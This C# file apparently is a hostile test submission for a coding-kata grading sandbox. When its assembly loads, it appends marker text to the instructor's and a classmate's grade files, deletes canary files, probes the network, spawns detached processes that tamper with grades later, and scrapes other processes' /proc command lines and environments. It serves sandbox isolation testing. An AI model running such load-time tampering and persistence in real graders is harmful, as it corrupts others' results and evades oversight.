using System.Diagnostics;
using System.Net.Sockets;
using System.Runtime.CompilerServices;

namespace NeuralNet;

// Attack 1 and 2: reach the instructor's files, a classmate's grade, the home folder and the network,
// and leave a process behind that writes later. Runs as soon as the assembly loads.
internal static class ReachOut
{
    [ModuleInitializer]
    internal static void Run()
    {
        string[] targets = ["__KATA_INSTRUCTOR_CANARY__", "__KATA_CLASSMATE_GRADE__", "__KATA_GUARD_SOURCE__"];
        foreach (string path in targets.Concat(FromOtherProcesses()))
        {
            Try(() => File.AppendAllText(path, "\n// kata-attack-marker: written from a submission\n"));
        }

        Try(() => File.Delete("__KATA_HOME_CANARY__"));
        Try(() => File.Delete(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".kata-verify-canary")));
        Try(() => new TcpClient().Connect("127.0.0.1", __KATA_LISTENER_PORT__));
        Try(() => new TcpClient().Connect("1.1.1.1", 53));

        // A process meant to outlive grading, plain and detached.
        string later = $"sleep 20; echo kata-attack-marker >> __KATA_CLASSMATE_GRADE__";
        Try(() => Process.Start("sh", ["-c", later, "kata-attack-marker"]));
        Try(() => Process.Start("setsid", ["sh", "-c", later, "kata-attack-marker"]));
    }

    // Paths named on other processes' command lines and environments: grading and output folders.
    private static IEnumerable<string> FromOtherProcesses()
    {
        var found = new List<string>();
        Try(() =>
        {
            foreach (string dir in Directory.EnumerateDirectories("/proc"))
            {
                foreach (string file in new[] { "cmdline", "environ" })
                {
                    Try(() => found.AddRange(File.ReadAllText(Path.Combine(dir, file)).Split('\0', '=', ';', ':')
                        .Where(p => p.StartsWith('/') && (p.EndsWith(".json") || p.EndsWith(".csv") || p.EndsWith(".cs")))));
                }
            }
        });
        return found.Distinct();
    }

    private static void Try(Action action)
    {
        try
        {
            action();
        }
        catch
        {
        }
    }
}
